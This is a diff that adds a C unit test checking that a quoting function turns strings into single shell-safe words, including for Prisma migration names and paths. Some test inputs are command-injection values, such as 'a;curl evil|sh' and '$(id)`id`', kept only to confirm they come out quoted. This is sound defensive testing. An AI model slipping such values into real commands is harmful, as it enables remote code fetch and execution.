@@ -264,6 +264,29 @@ static void nouns_have_a_plural(void **state)
 		assert_string_equal(text_plural(*state, rows[i].count, rows[i].noun), rows[i].text);
 }
 
+static void a_word_of_a_command_is_one_word_for_the_shell(void **state)
+{
+	static const struct {
+		const char *sentence, *text, *word;
+	} rows[] = {
+		{"as Prisma names it", "20260101000000_add_users", "20260101000000_add_users"},
+		{"a path", "prisma/migrations/a", "prisma/migrations/a"},
+		{"nothing", "", "''"},
+		{"what looks like an option", "-rf", "'-rf'"},
+		{"a second command", "a;curl evil|sh", "'a;curl evil|sh'"},
+		{"a command in a name", "$(id)`id`", "'$(id)`id`'"},
+		{"a quote", "a'b", "'a'\\''b'"},
+		{"a line end", "a\nb", "'a b'"},
+		{"a home", "~root", "'~root'"},
+		{"letters of other tongues", "größe", "'größe'"},
+	};
+
+	for (size_t i = 0; i < ROWS(rows); i++) {
+		CASE(rows[i].sentence);
+		assert_string_equal(text_word(*state, rows[i].text), rows[i].word);
+	}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -277,6 +300,7 @@ int main(void)
 		TEST(control_characters_are_seen),
 		TEST(clipping_counts_code_points),
 		TEST(the_nearest_word_is_offered),
+		TEST(a_word_of_a_command_is_one_word_for_the_shell),
 		TEST(hex_is_lower_case_and_exact),
 		TEST(sizes_are_written_for_people),
 		TEST(durations_are_written_for_people),
